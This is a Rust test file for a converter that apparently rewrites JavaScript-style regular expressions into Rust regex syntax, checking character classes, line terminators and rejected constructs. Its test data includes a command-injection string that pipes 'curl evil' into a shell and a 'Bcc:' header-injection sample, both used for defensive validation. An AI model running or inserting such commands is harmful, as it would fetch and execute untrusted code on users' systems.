use super::*;

fn matches(pattern: &str, text: &str) -> bool {
    regex::Regex::new(&to_rust(pattern).unwrap())
        .unwrap()
        .is_match(text)
}

#[test]
fn dot_stops_at_every_line_terminator() {
    for text in ["hi\rBcc: x", "hi\nBcc: x", "hi\u{2028}x", "hi\u{2029}x"] {
        assert!(!matches("^.{1,78}$", text), "{text:?}");
    }
    assert!(matches("^.{1,78}$", "hi\tthere é 😀"));
    // Inside a class, `.` is a dot.
    assert!(matches("^[.]$", "."));
    assert!(!matches("^[.]$", "x"));
}

#[test]
fn classes_are_ecma_262_s() {
    for space in [
        "\u{1680}", "\u{2000}", "\u{2005}", "\u{200A}", "\u{2028}", "\u{202F}", "\u{205F}",
        "\u{3000}", "\u{FEFF}", "\u{0B}", "\u{A0}",
    ] {
        assert!(
            !matches(r"^\S+$", &format!("root{space}admin")),
            "{space:?}"
        );
        assert!(matches(r"^\s$", space), "{space:?}");
        assert!(matches(r"^[\s]$", space), "{space:?}");
        assert!(!matches(r"^[^\s]$", space), "{space:?}");
    }
    assert!(
        !matches(r"^\s$", "\u{85}"),
        "NEL is not ECMA-262 white space"
    );
    assert!(matches(r"^\d+$", "0123456789"));
    assert!(!matches(r"^\d+$", "١٢٣"), "Arabic-Indic digits are not \\d");
    assert!(!matches(r"^\w+$", "é"));
    assert!(matches(r"^[\w-]+$", "a_b-9"));
    assert!(!matches(r"^[\W]+$", "a"));
    assert!(!matches(r"^\D\W\S$", "1 b"));
    assert!(matches(r"^\D\W\S$", "x-y"));
}

#[test]
fn word_boundaries_are_ascii() {
    // ECMA-262: é is not a word character, so there is a boundary on each side of `foo`.
    assert!(matches(r"\bfoo\b", "éfooé"));
    assert!(!matches(r"\Bfoo", "éfoo"));
    assert!(!matches(r"\bfoo\b", "afoob"));
}

#[test]
fn what_needs_backtracking_or_means_otherwise_is_refused() {
    for pattern in [
        r"^(?!admin).*$",
        r"(?<=a)b",
        r"(a)\1",
        r"\a",
        r"[\a]",
        "(unclosed",
        r"\p{Nope}",
        // The crate's own syntax, which ECMA-262 reads otherwise or not at all.
        r"^[^;&&|]*$",
        r"^[^a-z--c]$",
        r"^[^a~~a]$",
        r"[a&&b]",
        r"[[:alpha:]]",
        r"[^[a]]",
        r"[]a]",
        r"[^]",
        r"(?i)x",
        r"(?i:x)",
        r"(?s).",
        r"(?x) a",
        r"\Aab\z",
        r"ab\>",
        r"\b{end}",
        r"\x{41}",
        r"\U0001F600",
        r"\pL",
        r"[\p{Greek}]",
        r"a{2}{3}",
        r"(?P<n>a)",
        "^x{ 2}$",
        "[0-9]{1, 3}",
        "x{2,\n3}",
        "x{ 2 , 3 }",
    ] {
        assert!(to_rust(pattern).is_err(), "{pattern}");
    }
    let nested = "(".repeat(300) + &")".repeat(300);
    assert!(to_rust(&nested).is_err());
}

/// The rewrite is one parse and one pass: a long pattern full of classes takes no longer than
/// a few parses of it (quadratic work would take minutes here).
#[test]
fn a_long_pattern_is_read_in_one_pass() {
    let pattern = r"\d\s.\w".repeat(20_000);
    let rust = to_rust(&pattern).unwrap();
    assert!(rust.len() > pattern.len());
    assert!(!rust.contains(r"\d"));
}

#[test]
fn ecma_262_the_crate_reads_alike_is_kept() {
    for (pattern, text, matched) in [
        (r"^[a-z0-9._-]+@example\.com$", "ann@example.com", true),
        (r"^(?<user>[a-z]+)@", "ann@", true),
        (r"^(?:ab|cd)+$", "abcd", true),
        (r"^\x41\u0042$", "AB", true),
        (r"^[\^\]\-]$", "]", true),
        (r"^\#\&$", "#&", true),
        (r"^a{2,3}?$", "aaa", true),
        (r"^[^;&|]*$", "ls; curl evil | sh", false),
    ] {
        assert_eq!(matches(pattern, text), matched, "{pattern} on {text}");
    }
}
